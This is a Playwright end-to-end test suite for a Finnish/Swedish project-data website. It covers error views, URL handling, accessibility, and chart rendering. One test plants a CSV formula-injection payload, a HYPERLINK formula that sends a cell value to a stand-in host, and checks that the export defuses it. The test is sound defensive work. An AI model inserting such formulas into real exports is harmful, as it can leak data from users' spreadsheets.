import { test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import type { Page } from 'playwright-core';
import { BASE_PATH, WCAG_TAGS, axe, open, pagePath, screenshot, sharedBrowser, watchedPage } from './browser.ts';
import { FIXTURE_DETAILS, FIXTURE_EVENTS, FIXTURE_PROGRAMME } from '../unit/factsFixture.ts';

const shared = sharedBrowser();
const real = (file: string) => readFileSync(`public/data/${file}`, 'utf8');

async function serveData(page: Page, file: string, body: string) {
  await page.route(`**/data/${file}`, (route) => route.fulfill({ status: 200, contentType: 'application/json', body }));
}

/** The made-up programme, events and details of test/unit/factsFixture.ts in place of the committed files. */
async function serveFacts(page: Page) {
  await serveData(page, 'programme.json', JSON.stringify(FIXTURE_PROGRAMME));
  await serveData(page, 'events.json', JSON.stringify(FIXTURE_EVENTS));
  await serveData(page, 'details.json', JSON.stringify(FIXTURE_DETAILS));
}

async function axeClean(page: Page, label: string) {
  const result = await axe(page).withTags(WCAG_TAGS).analyze();
  const violations = result.violations.map(
    (v) =>
      `${v.impact} ${v.id}: ${v.nodes
        .slice(0, 3)
        .map((n) => n.target.join(' '))
        .join(', ')}`,
  );
  assert.deepEqual(violations, [], `${label}: axe violations`);
}

test('offline after the first load: another view shows a localized "try again" in place of a blank page, and loads once back online', async () => {
  const { context, page } = await watchedPage(shared.browser);
  await open(page, 'sources/');
  await page.locator('main h1').first().waitFor();
  await context.setOffline(true);
  // The browser may still answer from its memory cache; aborting the chunk requests is what a lost network does.
  await page.route('**/assets/*.js', (route) => route.abort('internetdisconnected'));
  await page.getByRole('navigation').getByRole('link', { name: 'Kartta' }).click();
  const alert = page.getByRole('alert');
  await alert.waitFor();
  assert.match(await alert.innerText(), /Näkymää ei voitu ladata/);
  assert.ok(await page.locator('header').isVisible(), 'the header stays');
  assert.ok(await page.getByRole('navigation').isVisible(), 'the navigation stays');
  await page.getByRole('button', { name: 'Lataa sivu uudelleen' }).waitFor();
  await screenshot(page, 'views-offline-fi-1280');

  await context.setOffline(false);
  await page.unroute('**/assets/*.js');
  await page.getByRole('button', { name: 'Yritä uudelleen' }).click();
  await page.getByRole('heading', { level: 1, name: 'Kartta' }).waitFor();
  assert.equal(await page.getByRole('alert').count(), 0);
  await context.close();
});

test('a redeployed site (chunks gone, HTTP 404) shows the Swedish message, and other views still open', async () => {
  const { context, page } = await watchedPage(shared.browser);
  await open(page, 'sv/sources/');
  await page.locator('main h1').first().waitFor();
  await page.route(/\/assets\/(TimelineView|MapView)-[^/]+\.js$/, (route) =>
    route.fulfill({ status: 404, body: 'not found' }),
  );
  await page.getByRole('navigation').getByRole('link', { name: 'Tidslinje' }).click();
  const alert = page.getByRole('alert');
  await alert.waitFor();
  assert.match(await alert.innerText(), /Vyn kunde inte laddas/);
  await page.getByRole('button', { name: 'Försök igen' }).waitFor();
  await page.getByRole('navigation').getByRole('link', { name: 'Källor och kvalitet' }).click();
  await page.getByRole('heading', { level: 1, name: /Källor/ }).waitFor();
  assert.equal(await page.getByRole('alert').count(), 0);
  await context.close();
});

test('a formula in a project name is exported to CSV with a leading apostrophe', async () => {
  const { context, page } = await watchedPage(shared.browser, { acceptDownloads: true });
  const projects = JSON.parse(real('projects.json')) as Array<{ id: string; name: string }>;
  const payload = '=HYPERLINK("http://example.invalid/?x="&A1;"Avaa")';
  projects.find((p) => p.id === '2008-proomu-hanke')!.name = payload;
  await serveData(page, 'projects.json', JSON.stringify(projects));
  await open(page, 'projects/?year=2008');
  await page.getByTestId('summary').waitFor();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('button', { name: 'Lataa CSV' }).click(),
  ]);
  const text = readFileSync((await download.path())!, 'utf8');
  const line = text.split('\r\n').find((l) => l.startsWith('2008-proomu-hanke;'))!;
  // Quoted because the payload holds ";" and '"'; inside the quotes the cell starts with the apostrophe.
  assert.equal(line.split(';"')[1]!.slice(0, 12), `'=HYPERLINK(`);
  assert.ok(!text.includes(';=HYPERLINK') && !text.includes(';"=HYPERLINK'), 'no cell starts with the formula');
  assert.ok(line.endsWith(';180100;;;minutes-2008:108-110'), 'the cost stays a plain number');
  await context.close();
});

test('unknown ids in the URL are dropped once the data loads, so the table is not filtered to nothing', async () => {
  const { context, page, problems } = await watchedPage(shared.browser);
  // An unknown project's own page is missing (404.html); a view that keeps the project in its query drops it.
  await open(page, 'projects/?theme=nosuch&admin=nobody');
  await page.getByTestId('summary').waitFor();
  await page.waitForFunction(() => !window.location.search.includes('nosuch'));
  assert.equal(new URL(page.url()).search, '');
  assert.equal(new URL(page.url()).pathname, `${BASE_PATH}projects/`);
  assert.match(await page.getByTestId('summary').innerText(), /^47 \/ 47/);
  await open(page, 'map/?project=no-such-project&year=2008');
  await page.waitForFunction(() => !window.location.search.includes('no-such-project'));
  assert.equal(new URL(page.url()).search, '?year=2008');
  assert.deepEqual(problems, []);
  await context.close();
});

test('a broken events.json shows the error panel in the timeline only, in Finnish with the technical detail labelled', async () => {
  const { context, page } = await watchedPage(shared.browser);
  await serveData(page, 'events.json', '[{"id": 1}]');
  await open(page, '');
  await page.getByRole('heading', { level: 1, name: 'Yleiskuva' }).waitFor();
  assert.equal(await page.getByRole('alert').count(), 0, 'the overview does not read events.json');
  await page.getByRole('navigation').getByRole('link', { name: 'Aikajana' }).click();
  const alert = page.getByRole('alert');
  await alert.waitFor();
  const text = await alert.innerText();
  assert.match(
    text,
    /data\/events\.json: tiedoston sisältö ei vastaa tietokuvausta \(skeemaa\) \(Tekninen tieto \(englanniksi\): /,
  );
  assert.equal(await alert.locator('[lang="en"]').count(), 1);
  await context.close();
});

for (const lang of ['fi', 'sv'] as const) {
  test(`timeline (${lang}): bars, table alternative by keyboard, the project's facts, axe clean, at 1280 and 390 px`, async () => {
    const { context, page, problems } = await watchedPage(shared.browser);
    await serveFacts(page);
    await open(page, pagePath('timeline', lang));
    const figure = page.locator('figure[data-chart-id="timeline"]');
    await figure.waitFor();
    assert.equal(await figure.locator('.timeline-project .timeline-bar').count(), 6);
    assert.equal(await figure.locator('.timeline-event').count(), 2);
    await axeClean(page, `timeline ${lang}`);
    await screenshot(page, `views-timeline-${lang}-1280`);
    await page.setViewportSize({ width: 390, height: 844 });
    // No sideways scrolling at phone width, once the drawings have measured their new width.
    await page.waitForFunction(() => document.documentElement.scrollWidth === 390);
    await screenshot(page, `views-timeline-${lang}-390`);

    const table = lang === 'fi' ? 'Näytä taulukkona' : 'Visa som tabell';
    await figure.getByRole('button', { name: table }).focus();
    await page.keyboard.press('Enter');
    const filter = figure.getByRole('button', {
      name: lang === 'fi' ? 'Suodata: Vaasan perhekeskus' : /^Filtrera: Vasa familjecenter/,
    });
    await filter.focus();
    await page.keyboard.press('Enter');
    await page.waitForFunction(() => window.location.search.includes('project=vaasan-perhekeskus'));
    const panel = page.getByRole('complementary');
    await panel.waitFor();
    const facts = await panel.innerText();
    assert.match(facts, /Testiedeltäjä \(1\.9\.2004–31\.5\.2006\)/);
    // A span of months: digits in Finnish, the months written out in Swedish.
    assert.match(
      facts,
      lang === 'fi' ? /Testivaihe alku \(9\.2007–12\.2007\)/ : /Testivaihe alku \(september–december 2007\)/,
    );
    assert.match(facts, lang === 'fi' ? /testikoordinaattori \(uusi toimi\)/ : /testikoordinaattori \(ny befattning\)/);
    await axeClean(page, `timeline detail ${lang}`);
    assert.deepEqual(problems, []);
    await context.close();
  });

  test(`national context (${lang}): goals, themes and the regions with Väli-Suomi's own project highlighted`, async () => {
    const { context, page, problems } = await watchedPage(shared.browser);
    await serveFacts(page);
    await open(page, pagePath('context', lang));
    await page.locator('main h1').first().waitFor();
    const own = page.locator('.context-projects li.is-own');
    await own.waitFor();
    assert.match(await own.innerText(), lang === 'fi' ? /Väli-Suomen oma hanke/ : /Kaste-regionens eget projekt/);
    assert.equal(await page.locator('table.context-themes tbody tr').count(), 7);
    await screenshot(page, `views-context-${lang}-1280`);
    await page.setViewportSize({ width: 390, height: 844 });
    // No sideways scrolling at phone width, once the drawings have measured their new width.
    await page.waitForFunction(() => document.documentElement.scrollWidth === 390);
    await screenshot(page, `views-context-${lang}-390`);
    assert.deepEqual(problems, []);
    await context.close();
  });
}

for (const lang of ['fi', 'sv'] as const) {
  for (const width of [1366, 390]) {
    test(`overview (${lang}, ${width} px) with only 2009 projects: no cost chart of zeros, the reason in words instead`, async () => {
      const { context, page } = await watchedPage(shared.browser, { viewport: { width, height: 900 } });
      await open(page, pagePath('overview', lang, '?year=2009'));
      const charts = page.locator('main figure[data-chart-id^="cost-by-"]');
      assert.equal(await charts.count(), 3);
      for (const figure of await charts.all()) {
        const text = (await figure.innerText()).replace(/[\u00a0\u202f]/g, ' ');
        assert.match(
          text,
          lang === 'fi' ? /vuoden 2009 suunnitelmassa ei ole summia/ : /2009 års plan anger inga belopp/,
        );
        assert.doesNotMatch(text, /\b0 €|0,0 %/);
        assert.equal(await figure.locator('svg, table, button').count(), 0, 'nothing drawn, downloaded or cited');
      }
      await screenshot(page, `overview-2009-${lang}-${width}`);
      await context.close();
    });
  }
}
